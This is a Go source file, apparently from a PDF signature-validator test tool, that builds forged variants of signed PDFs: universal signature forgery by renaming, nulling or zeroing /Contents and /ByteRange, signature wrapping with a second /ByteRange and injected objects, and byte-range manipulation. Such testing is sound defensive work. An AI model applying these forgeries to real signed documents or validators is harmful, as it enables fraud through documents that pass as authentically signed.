package attack

import (
	"bytes"
	"fmt"
	"strings"
)

const (
	usf = "universal_signature_forgery"
	swa = "signature_wrapping"
	rng = "byte_range_manipulation"
)

// universal: nothing is left that could be checked, and a careless validator is content.
func universal() []Variant {
	contents := func(s string) func(*forgery) ([]byte, error) {
		return func(f *forgery) ([]byte, error) { return f.contents([]byte(s)) }
	}
	return []Variant{
		{"usf-contents-missing", usf, "/Contents is renamed", true, func(f *forgery) ([]byte, error) { return f.inPlace("/Contents", "/Content_") }},
		{"usf-contents-null", usf, "/Contents is null", true, contents("null")},
		{"usf-contents-empty", usf, "/Contents is empty", true, contents("<>")},
		{"usf-contents-zero", usf, "/Contents holds only zeros", true, func(f *forgery) ([]byte, error) {
			from, to := f.gap()
			return f.contents([]byte("<" + strings.Repeat("0", to-from-2) + ">"))
		}},
		{"usf-byterange-missing", usf, "/ByteRange is renamed", true, func(f *forgery) ([]byte, error) { return f.inPlace("/ByteRange", "/ByteRang_") }},
		{"usf-byterange-null", usf, "/ByteRange is null", true, func(f *forgery) ([]byte, error) { return f.byteRange("null") }},
		{"usf-byterange-empty", usf, "/ByteRange is empty", true, func(f *forgery) ([]byte, error) { return f.byteRange("[]") }},
		{"usf-byterange-odd", usf, "/ByteRange has three numbers", true, func(f *forgery) ([]byte, error) { return f.byteRange("[0 1 2]") }},
	}
}

// byteRange writes another value of /ByteRange where it stands.
func (f *forgery) byteRange(value string) ([]byte, error) {
	from, _ := f.gap()
	start := bytes.LastIndex(f.in[:from], []byte("/ByteRange"))
	if start < 0 {
		return nil, ErrNotApplicable
	}
	start += len("/ByteRange")
	end := bytes.IndexByte(f.in[start:from], ']')
	if end < 0 || len(value)+1 > end+1 {
		return nil, ErrNotApplicable
	}
	out := bytes.Clone(f.in)
	copy(out[start:start+end+1], " "+value+strings.Repeat(" ", end-len(value)))
	return out, nil
}

// wrapping: what was signed is moved, or something is put where it is not signed.
func wrapping() []Variant {
	return []Variant{
		{"swa-second-byterange", swa, "a second /ByteRange in the unsigned padding leaves room for other content", true, wrapped},
		{"swa-gap-widened", swa, "the gap holds more than /Contents", true, func(f *forgery) ([]byte, error) {
			from, to := f.gap()
			used := f.used()
			return f.contents([]byte(string(f.in[from:from+1+used]) + "> /Injected (" + strings.Repeat("x", min(20, max(0, to-from-used-40))) + ")"))
		}},
		{"swa-padding-used", rng, "data in the padding of /Contents", false, func(f *forgery) ([]byte, error) {
			from, to := f.gap()
			if to-from-2-f.used() < 16 {
				return nil, ErrNotApplicable
			}
			out := bytes.Clone(f.in)
			copy(out[to-1-8:], "deadbeef")
			return out, nil
		}},
		{"range-not-from-start", rng, "/ByteRange leaves out the start of the file", true, ranged(func(r *[4]int64) { r[0], r[1] = 9, r[1]-9 })},
		{"range-overlap", rng, "its parts overlap", true, ranged(func(r *[4]int64) { r[2], r[3] = r[1]-10, r[3]+r[2]-r[1]+10 })},
		{"range-outside", rng, "it ends behind the file", true, ranged(func(r *[4]int64) { r[3] += 1 << 40 })},
		{"range-negative", rng, "a length is negative", true, ranged(func(r *[4]int64) { r[3] = -r[3] })},
		{"range-short", rng, "it ends before its revision does", true, func(f *forgery) ([]byte, error) {
			r := f.signature.ByteRange
			return f.byteRange(fmt.Sprintf("[0 %d %d %d]", r[1], r[2], r[3]-20))
		}},
	}
}

// used is how many hexadecimal digits the CMS takes.
func (f *forgery) used() int { return 2 * (len(f.signature.Contents) - f.signature.CMS.Trailing()) }

// ranged writes a second /ByteRange behind a shortened /Contents: the signed bytes stay as they are.
func ranged(change func(r *[4]int64)) func(f *forgery) ([]byte, error) {
	return func(f *forgery) ([]byte, error) {
		r := [4]int64(f.signature.ByteRange)
		change(&r)
		from, _ := f.gap()
		return f.contents(append(bytes.Clone(f.in[from:from+1+f.used()]), fmt.Sprintf(">/ByteRange[%d %d %d %d]", r[0], r[1], r[2], r[3])...))
	}
}

func wrapped(f *forgery) ([]byte, error) {
	from, to := f.gap()
	inject := "\n/Injected (" + strings.Repeat("x", 64) + ")\n"
	r := f.signature.ByteRange
	second := fmt.Sprintf(">/ByteRange[0 %d %d %d]", r[1], r[2]+int64(len(inject)), r[3])
	if 1+f.used()+len(second) > to-from {
		return nil, ErrNotApplicable
	}
	out := append(bytes.Clone(f.in[:from+1+f.used()]), second...)
	out = append(out, bytes.Repeat([]byte(" "), to-len(out))...)
	out = append(out, inject...)
	return append(out, f.in[to:]...), nil
}
